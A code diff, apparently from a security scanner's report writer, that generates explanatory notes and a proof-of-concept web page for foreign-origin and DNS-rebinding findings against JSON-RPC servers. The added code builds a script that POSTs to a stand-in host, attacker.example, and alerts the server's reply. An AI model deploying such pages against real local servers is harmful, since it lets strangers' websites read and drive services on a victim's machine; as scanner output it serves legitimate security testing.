@@ -45,12 +45,16 @@ _HANDSHAKE = "the handshake comes first, on the same connection"
 _MODERN = "a good request comes first, on the same connection"
 _GARBAGE = "the handshake and the message that is not JSON come first, on the same connection"
 _PAGE = "a page of a stranger does the same in the browser of whoever opens it: "
+_REBOUND = (
+    "a page of a stranger does the same in the browser of whoever opens it, once the name of its host, attacker.example here, "
+    "points to the address of this server (DNS rebinding): "
+)
 
 
 def note(evidence: Evidence, visit: Visit, step: Step) -> str:
     """What has to come before a step, in words; empty where the one request is enough."""
     if step.name == "foreign-origin":
-        return _PAGE + _page(evidence, visit, step)
+        return (_PAGE if visit.transport == "websocket" else _REBOUND) + _page(evidence, visit, step)
     if step.http is not None and step.http.status == 429:
         return _RATE
     if step.name.endswith("/list") and step.subject:
@@ -67,7 +71,7 @@ def note(evidence: Evidence, visit: Visit, step: Step) -> str:
 
 
 def _page(evidence: Evidence, visit: Visit, step: Step) -> str:
-    """What such a page holds. Over HTTP its own name points to this machine (DNS rebinding), so the address has no host."""
+    """What such a page holds. Over HTTP its own name points to the server (DNS rebinding): that is the host of the address."""
     target = printable(evidence.target)
     if visit.transport == "websocket":
         ping = '{"jsonrpc":"2.0","id":1,"method":"ping"}'
@@ -76,13 +80,15 @@ def _page(evidence: Evidence, visit: Visit, step: Step) -> str:
             "s.onmessage = e => alert(e.data)</script>"
         )
     try:
-        path = urlsplit(target).path or "/"
+        parts = urlsplit(target)
+        port = f":{parts.port}" if parts.port else ""
+        url = urlunsplit(parts._replace(netloc=f"attacker.example{port}", path=parts.path or "/"))
     except ValueError:  # not an address, in a made-up capture
-        path = target
+        url = target
     sent = json.dumps(_typed(step.sent))
     headers = "{'content-type': 'application/json', accept: 'application/json, text/event-stream'}"
     return (
-        f"<script>fetch({json.dumps(path)}, {{method: 'POST', headers: {headers}, body: {sent}}})"
+        f"<script>fetch({json.dumps(url)}, {{method: 'POST', headers: {headers}, body: {sent}}})"
         ".then(r => r.text()).then(alert)</script>"
     )
 
